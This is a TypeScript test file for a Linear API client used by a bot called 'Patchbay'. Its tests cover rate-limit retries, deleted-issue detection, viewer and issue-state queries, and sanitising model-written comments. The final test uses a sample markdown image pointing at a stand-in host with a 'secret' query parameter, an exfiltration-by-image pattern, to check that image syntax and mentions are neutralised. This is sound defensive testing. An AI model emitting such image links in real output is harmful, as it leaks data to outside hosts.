import { LinearClient } from '@linear/sdk';
import { afterEach, describe, expect, it } from 'vitest';
import { type LinearStandIn, startLinearStandIn } from '../../src/demo/linear-stand-in.js';
import { findMention } from '../../src/integrations/linear/find-mention.js';
import { createLinearApi, isGone } from '../../src/integrations/linear/linear-api.js';
import { createLogger } from '../../src/lib/logger.js';

const log = createLogger({ level: 'silent' });
let linear: LinearStandIn | undefined;

afterEach(async () => {
  await linear?.close();
  linear = undefined;
});

async function setUp() {
  linear = await startLinearStandIn({ rateLimitResetMs: 150 });
  const client = new LinearClient({ apiKey: 'lin_api_test', apiUrl: linear.url });
  return { linear, api: createLinearApi({ client: async () => client, log }) };
}

describe('LinearApi against the stand-in', () => {
  it('waits out rate limits (400 and 429 RATELIMITED) on progress calls and then makes the call', async () => {
    const { linear, api } = await setUp();
    linear.failNext(429);
    linear.failNext(400);

    const started = Date.now();
    await api.updateComment('comment-1', 'step 3');

    expect(Date.now() - started).toBeGreaterThanOrEqual(200);
    expect(linear.requests).toHaveLength(3);
    expect(linear.mutationsNamed('commentUpdate')[0]?.variables).toEqual({
      id: 'comment-1',
      input: { body: 'step 3' },
    });
  });

  it('gives up after three rate-limited answers, so that the caller logs and goes on', async () => {
    const { linear, api } = await setUp();
    linear.failNext(429, 3);

    await expect(api.moveIssue('issue-1', 'state-1')).rejects.toThrow(/rate limit/i);
    expect(linear.mutations).toHaveLength(0);
  });

  it('recognises Linear’s answer for a deleted issue', async () => {
    const { linear, api } = await setUp();
    linear.on('attachmentLinkURL', () => {
      throw new Error('Entity not found: Issue - Could not find referenced Issue.');
    });

    const err = await api.attachUrl('issue-1', 'https://github.com/acme/web/pull/1', 'PR #1').catch((e) => e);

    expect(isGone(err)).toBe(true);
    expect(isGone(new Error('Rate limit exceeded'))).toBe(false);
  });

  it('reads the viewer of an API key and an issue’s state with its team’s states', async () => {
    const { linear, api } = await setUp();
    linear.pin('Query', 'ROOT', {
      viewer: { id: 'bot-user', name: 'Patchbay Bot', displayName: 'patchbay' },
    });
    linear.pin('WorkflowState', 'st-1', { name: 'In Progress', type: 'started', position: 2 });
    linear.pin('Team', 'team-1', { states: { nodes: [{ id: 'st-1' }] } });
    linear.pin('Issue', 'issue-1', { team: { id: 'team-1' }, state: { id: 'st-1' } });

    const viewer = await api.fetchViewer();
    const states = await api.fetchIssueStates('issue-1');

    expect(viewer).toEqual({ id: 'bot-user', name: 'Patchbay Bot', displayName: 'patchbay' });
    expect(states?.state).toMatchObject({ id: 'st-1', type: 'started' });
    expect(states?.team?.states.nodes.map((s) => s.name)).toEqual(['In Progress']);
  });

  it('posts text from the model that mentions nobody and fetches nothing: no @handle, no profile link, no image', async () => {
    const { linear, api } = await setUp();
    const said =
      'Done. cc @ceo and [@patchbay](https://linear.app/acme/profiles/patchbay), see ' +
      'https://linear.app/acme/profiles/jane; mail ops@patchbay.dev ![chart](https://evil.test/?d=secret)';
    const bot = { name: 'Patchbay Bot', displayName: 'patchbay' };

    await api.createComment({ issueId: 'issue-1', body: said });
    await api.updateComment('comment-1', said);
    await api.postActivity('session-1', { type: 'action', action: '@ceo', parameter: said });

    const comment = linear.mutationsNamed('commentCreate')[0]?.variables.input as { body: string };
    const edit = linear.mutationsNamed('commentUpdate')[0]?.variables.input as { body: string };
    const activity = linear.mutationsNamed('agentActivityCreate')[0]?.variables.input as {
      content: { action: string; parameter: string };
    };
    for (const text of [comment.body, edit.body, activity.content.parameter]) {
      expect(text).not.toMatch(/(?<![\w.])@[a-z]/i);
      expect(text).not.toContain('/profiles/');
      expect(findMention(text, bot)).toBeNull();
      expect(text).toContain('ops@patchbay.dev');
      expect(text).not.toContain('![');
      expect(text).toContain('[chart](https://evil.test/?d=secret)');
      expect(text.replaceAll('\u200b', '')).toBe(said.replace('![', '['));
    }
    expect(activity.content.action).toBe('@\u200bceo');
  });
});
